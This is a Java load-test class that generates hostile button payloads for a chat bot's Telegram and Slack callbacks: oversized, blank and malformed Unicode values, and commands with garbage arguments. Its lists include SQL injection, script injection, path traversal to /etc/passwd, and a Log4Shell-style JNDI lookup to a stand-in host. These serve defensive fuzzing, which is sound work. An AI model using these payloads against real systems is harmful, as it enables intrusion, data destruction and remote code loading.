package dev.briefing.loadtest;

import java.util.List;
import java.util.Random;

/**
 * Generated hostile button data (Telegram {@code callback_data}, a Block Kit button's {@code
 * value}), reproducible from a seed: empty and blank values, values past Telegram's 64 bytes and of
 * about 100 KB, plain text, every {@link HostileInput#INJECTIONS} string, the commands a button may
 * run ({@code CommandRouter.CLICKABLE}) with garbage, huge or negative arguments, commands no
 * button runs, other chats' and unknown subscription ids, lone surrogates and control characters. A
 * few presses are ones the bot's own buttons make ({@code /articles 1}, {@code /more}), so the
 * suite also sees presses that run.
 */
final class HostileButtons {
  /** The commands a button may run, with arguments nobody's button carries. */
  static final List<String> CLICKABLE_GARBAGE =
      List.of(
          "/articles -1",
          "/articles 0",
          "/articles 99999999999999999999",
          "/articles NaN",
          "/articles 1e9",
          "/articles -9223372036854775808",
          "/ARTICLES 2",
          "/articles@OtherBot 2",
          "/pause ' OR 1=1",
          "/pause ' OR 1=1 --",
          "/pause -1",
          "/pause all; DROP TABLE subscriptions",
          "/pause 99999999999999999999",
          "/resume <script>alert(1)</script>",
          "/resume -2147483648",
          "/unsubscribe 1e400",
          "/unsubscribe 9223372036854775808",
          "/unsubscribe ../../etc/passwd",
          "/summary <script>",
          "/summary <b>3</b>",
          "/summary -1",
          "/summary 0",
          "/summary ../../../../etc/passwd",
          "/summary ${jndi:ldap://evil.example/a}",
          "/use -1",
          "/use 99999999999999999999",
          "/use <!channel>",
          "/more <@U123>",
          "/more -1");

  /** Commands that change things but that no button runs: a press of one must expire. */
  static final List<String> NOT_CLICKABLE =
      List.of(
          "/add https://evil.example",
          "/add Headline\nBody text pasted into a button",
          "/subscribe 08:00",
          "/subscribe weekdays 07:30 Europe/Berlin",
          "/feed add https://evil.example/rss",
          "/feed remove 1",
          "/timezone Europe/Berlin",
          "/digest",
          "/subscriptions",
          "/start subscribe_0800_Europe-Berlin",
          "/help",
          "/ask What did the minister say?",
          "/xyz",
          "/",
          "//");

  /** What the bot's own buttons carry: presses that run, so replies and edits are checked too. */
  static final List<String> GENUINE = List.of("/articles", "/articles 1", "/articles 2", "/more");

  /** Subscription-changing commands, with ids that belong to other chats or to nobody. */
  private static final List<String> ID_COMMANDS =
      List.of("/pause ", "/resume ", "/unsubscribe ", "/pause all", "/unsubscribe all");

  private final Random random;
  private int injection;

  HostileButtons(long seed) {
    this.random = new Random(seed);
  }

  /** The {@code i}-th button's data. */
  String next(int i) {
    if (i % 500 == 77) {
      return hundredKilobytes(i);
    }
    int kind = random.nextInt(100);
    if (kind < 6) {
      return blank();
    } else if (kind < 12) {
      return overSixtyFourBytes();
    } else if (kind < 18) {
      return random.nextBoolean()
          ? SampleBot.QUESTIONS.get(random.nextInt(SampleBot.QUESTIONS.size()))
          : "expired-" + Long.toHexString(random.nextLong());
    } else if (kind < 34) {
      return injected();
    } else if (kind < 52) {
      return pick(CLICKABLE_GARBAGE);
    } else if (kind < 64) {
      return pick(NOT_CLICKABLE);
    } else if (kind < 78) {
      return subscriptionId();
    } else if (kind < 90) {
      return unicode();
    }
    return pick(GENUINE);
  }

  private String blank() {
    return List.of("", " ", "   ", "\t", "\n", "\u00a0", "\u2003\u200b", "\r\n")
        .get(random.nextInt(8));
  }

  private String overSixtyFourBytes() {
    return switch (random.nextInt(4)) {
      case 0 -> "/articles " + "9".repeat(55 + random.nextInt(200));
      case 1 -> "/summary " + "é".repeat(30 + random.nextInt(100)); // two bytes a character
      case 2 -> "/pause " + "1 ".repeat(40 + random.nextInt(100));
      default -> "x".repeat(65 + random.nextInt(2_000));
    };
  }

  // ASCII, so that the webhook body stays about 100 KB (a \\u escape is six bytes a character).
  private String hundredKilobytes(int i) {
    return switch ((i / 500) % 3) {
      case 0 -> "/summary " + "9".repeat(100_000);
      case 1 -> "/articles " + "x".repeat(100_000);
      default -> "A".repeat(100_000);
    };
  }

  // Every injection string in turn, alone or as a clickable command's argument.
  private String injected() {
    String markup = HostileInput.INJECTIONS.get(injection++ % HostileInput.INJECTIONS.size());
    return switch (random.nextInt(3)) {
      case 0 -> markup;
      case 1 -> "/summary " + markup;
      default -> pick(List.of("/articles ", "/pause ", "/use ", "/more ")) + markup;
    };
  }

  // Small ids belong to the chats the suite subscribed beforehand; large ones to nobody.
  private String subscriptionId() {
    String command = pick(ID_COMMANDS);
    if (!command.endsWith(" ")) {
      return command;
    }
    return command
        + (random.nextBoolean()
            ? String.valueOf(1 + random.nextInt(8))
            : String.valueOf(Math.abs(random.nextLong() % 1_000_000_000_000L)));
  }

  private String unicode() {
    StringBuilder text = new StringBuilder(pick(List.of("/summary ", "/articles ", "/pause ", "")));
    int length = 1 + random.nextInt(20);
    for (int n = 0; n < length; n++) {
      switch (random.nextInt(5)) {
        case 0 -> text.append((char) (0xD800 + random.nextInt(0x800))); // lone surrogate
        case 1 -> text.append((char) random.nextInt(0x20)); // C0 controls, NUL included
        case 2 -> text.append((char) (0x7f + random.nextInt(0x21))); // DEL and C1 controls
        case 3 -> text.append("\u202e\u2066\u200b\ufeff\u2028".charAt(random.nextInt(5)));
        default -> text.appendCodePoint(0x1F300 + random.nextInt(0x700)); // astral emoji
      }
    }
    return text.toString();
  }

  private String pick(List<String> from) {
    return from.get(random.nextInt(from.size()));
  }
}
